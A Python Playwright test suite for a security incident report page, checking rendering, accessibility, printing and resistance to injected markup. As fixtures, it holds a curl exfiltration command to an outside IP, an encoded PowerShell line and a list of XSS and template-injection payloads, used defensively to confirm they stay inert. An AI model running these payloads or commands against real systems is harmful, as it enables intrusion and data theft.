"""The report in a real Chromium: it renders, marks, folds, prints, asks for nothing, and hostile text stays text."""

import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page

from exfilwatch_playbooks.report.page import html
from exfilwatch_playbooks.report.view import CONTENTS

from ..findings.made import make  # noqa: TID252 (tests are no package on the path)
from ..hostile_corpus import CORPUS  # noqa: TID252 (tests are no package on the path)
from .incidents import ENCODED, POWERSHELL, demo, huge, page

HOSTS = ("lnx-app-02", "WS-HR-03.nordwind.example")


class Opened:
    """A page that is open, all that it asked for, and all that it complained of."""

    def __init__(self, browser: Browser, folder: Path, **options) -> None:
        self._file = folder / "report.html"
        self._context = browser.new_context(**options)
        self.page: Page = self._context.new_page()
        self.asked: list[str] = []
        self.said: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.said.append(message.text))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.on("dialog", lambda dialog: self.said.append(dialog.message))

    def show(self, text: str) -> Page:
        self._file.write_text(text, encoding="utf-8")
        self.page.goto(self._file.as_uri())
        return self.page

    def was_quiet(self) -> bool:
        """Whether nothing but the file itself was asked for, and nothing went wrong."""
        return set(self.asked) == {self._file.as_uri()} and not self.said

    def close(self) -> None:
        self._context.close()


@pytest.fixture
def opened(chromium: Browser, tmp_path: Path) -> Iterator[Opened]:
    found = Opened(chromium, tmp_path, viewport={"width": 1280, "height": 900})
    yield found
    found.close()


def report_of(host: str) -> str:
    incident, findings, rules = demo(host)
    return html(incident, findings, rules)


def test_it_renders_and_asks_for_nothing(opened) -> None:
    shown = opened.show(report_of("lnx-app-02"))
    assert shown.get_by_role("heading", level=1).inner_text().endswith("Files Packed, Then Uploaded From The Same Host")
    assert shown.get_by_role("navigation").get_by_role("link").count() == len(CONTENTS)
    assert shown.get_by_role("img", name="Timeline of the incident").bounding_box()["width"] > 600
    for dot in shown.locator("svg circle").all():
        assert dot.evaluate("dot => getComputedStyle(dot).fill") != "rgb(0, 0, 0)"
    shown.get_by_role("link", name="How we know").click()
    assert shown.url.endswith("#reasons")
    assert opened.was_quiet()


def test_it_marks_each_kind_of_what_a_command_says_in_its_own_way(opened) -> None:
    shown = opened.show(
        page(
            make("a", Image=POWERSHELL, CommandLine=f"powershell.exe -enc {ENCODED}"),
            make("b", 1, CommandLine="curl -T /srv/plans.pdf http://198.51.100.4/"),
        )
    )
    kinds = ("matched", "program", "files", "destination", "hidden", "found")
    looks = {
        kind: shown.locator(f"pre mark[class={kind}]").first.evaluate(
            "mark => getComputedStyle(mark).backgroundColor + getComputedStyle(mark).textDecorationStyle"
        )
        for kind in kinds
    }
    assert len(set(looks.values())) == len(kinds)
    legend = shown.locator("#commands .legend mark").all_inner_texts()
    assert len(legend) == len(kinds)


def test_raw_evidence_is_folded_and_unfolds_by_keyboard(opened) -> None:
    shown = opened.show(report_of("lnx-app-02"))
    event = shown.locator(".events > li").first
    assert not event.is_visible()
    shown.locator(".raw > summary").focus()
    shown.keyboard.press("Enter")
    assert event.is_visible()
    assert not event.locator("dl").is_visible()
    shown.keyboard.press("Tab")
    shown.keyboard.press("Space")
    assert event.locator("dl").is_visible()
    assert "/home/jonas/src/orders" in event.locator("dl").inner_text()


def test_steps_are_ticked_by_keyboard_and_counted(opened) -> None:
    shown = opened.show(report_of("lnx-app-02"))
    boxes = shown.get_by_role("checkbox")
    assert boxes.count() == shown.locator(".steps > li").count() > 10
    assert "0" in read_aloud(shown)
    boxes.first.focus()
    shown.keyboard.press("Space")
    shown.locator("label[for=done-2]").click()
    assert boxes.first.is_checked()
    assert boxes.nth(1).is_checked()
    assert {"2", f"of {boxes.count()} steps done"} <= read_aloud(shown)


def read_aloud(shown: Page) -> set[str]:
    """The texts that Chromium tells a screen reader, generated ones with them."""
    told = shown.context.new_cdp_session(shown).send("Accessibility.getFullAXTree")["nodes"]
    return {node["name"]["value"] for node in told if node.get("role", {}).get("value") == "StaticText"}


def test_every_control_is_reached_by_keyboard_in_order(opened) -> None:
    shown = opened.show(report_of("WS-HR-03.nordwind.example"))
    reached = []
    for _ in range(12):
        shown.keyboard.press("Tab")
        reached.append(shown.evaluate("document.activeElement.getAttribute('href') || document.activeElement.tagName"))
    assert reached[:3] == ["#summary", "#summary", "#timeline"]
    assert shown.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"


def test_it_prints_what_paper_needs(opened) -> None:
    shown = opened.show(report_of("lnx-app-02"))
    shown.emulate_media(media="print")
    assert not shown.get_by_role("navigation").is_visible()
    commands = shown.locator(".paste:not(.search) pre")
    assert commands.count() > 3
    assert all(each.bounding_box()["height"] > 10 for each in commands.all())
    assert not shown.locator(".events > li").first.is_visible()
    assert not shown.locator(".search pre").first.is_visible()
    assert shown.evaluate("getComputedStyle(document.querySelector('pre mark.program')).printColorAdjust") == "exact"
    printed = shown.pdf(format="A4")
    assert printed.startswith(b"%PDF-")
    assert 3 <= printed.count(b"/Type /Page\n") + printed.count(b"/Type /Page ") <= 20


def test_it_is_dark_where_the_reader_is_and_light_on_paper(chromium, tmp_path) -> None:
    dark = Opened(chromium, tmp_path, color_scheme="dark")
    shown = dark.show(report_of("lnx-app-02"))
    ground = "getComputedStyle(document.body).backgroundColor"
    assert shown.evaluate(ground) == "rgb(16, 20, 27)"
    shown.emulate_media(media="print", color_scheme="dark")
    assert shown.evaluate(ground) == "rgb(255, 255, 255)"
    dark.close()


@pytest.mark.parametrize("width", [320, 390, 800, 1280])
def test_nothing_is_wider_than_the_screen(chromium, tmp_path, width) -> None:
    narrow = Opened(chromium, tmp_path, viewport={"width": width, "height": 800})
    shown = narrow.show(report_of("WS-HR-03.nordwind.example"))
    assert shown.evaluate("document.documentElement.scrollWidth") <= width
    narrow.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(chromium, tmp_path, scheme) -> None:
    looked_at = Opened(chromium, tmp_path, color_scheme=scheme, bypass_csp=True)
    shown = looked_at.show(report_of("WS-HR-03.nordwind.example"))
    shown.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    found = Axe().run(shown).response["violations"]
    looked_at.close()
    assert [(each["id"], each["nodes"][0]["html"][:200]) for each in found if each["impact"] != "minor"] == []


def test_hostile_text_stays_text(opened) -> None:
    """All of it in one incident, in every field that the page shows."""
    findings = [
        make(f"event {n}", n / 60, CommandLine=value, Image=f"/usr/bin/{value}", User=value, TargetFilename=value,
             DestinationHostname=value, DestinationIp=value, source=value, ProcessId=str(n + 10))
        for n, value in enumerate([*CORPUS, *ATTACKS])
    ]  # fmt: skip
    shown = opened.show(page(*findings))
    shown.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
    assert opened.was_quiet()
    assert (
        shown.evaluate("document.querySelectorAll('script, img, iframe, object, embed, a:not([href^=\"#\"])').length")
        == 0
    )
    assert shown.evaluate("[...document.querySelectorAll('*')].every(each => [...each.attributes].every("
                          "one => !one.name.startsWith('on')))")  # fmt: skip
    assert shown.evaluate("document.documentElement.scrollWidth") <= 1280
    assert shown.title().startswith("High") or shown.title().startswith("Medium")
    for attack in ATTACKS:
        assert shown.get_by_text(attack, exact=False).count() > 0


ATTACKS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=\"document.title='owned'\"><circle/></svg>",
    "</code></pre><h1>owned</h1>",
    "</style><style>body{display:none}</style>",
    "\" onmouseover=\"document.title='owned'",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,owned\">",
    "<!--", "]]>", "<![CDATA[", "{{ 7*7 }}", "{% raw %}", "</main>", "<base href=http://203.0.113.9/>",
)  # fmt: skip


def test_even_markup_that_got_through_could_do_nothing(opened) -> None:
    """The policy alone holds: with a script, an image and a style put into the page by force."""
    text = report_of("lnx-app-02").replace(
        "<main>",
        "<main><script>document.title='owned'</script>"
        "<img src=http://127.0.0.1:9/x.png onerror=\"document.title='owned'\">"
        "<p id=styled style='position:fixed'>x</p><style>#styled{display:none}</style>",
    )
    shown = opened.show(text)
    assert shown.title() != "owned"
    assert shown.locator("#styled").is_visible()
    assert shown.locator("#styled").evaluate("each => getComputedStyle(each).position") == "static"
    assert not [url for url in opened.asked if not url.startswith("file:")] or all(
        "Content Security Policy" in said for said in opened.said
    )


def test_a_huge_incident_opens_soon(opened) -> None:
    """1,500 events here; `make bench` measures 5,000 against 2 seconds."""
    text = huge(1_500)
    start = time.monotonic()
    shown = opened.show(text)
    shown.locator("#evidence").scroll_into_view_if_needed()
    assert time.monotonic() - start < 10
    shown.locator(".raw > summary").click()
    assert shown.locator(".events > li").count() == 1_500
    assert opened.was_quiet()
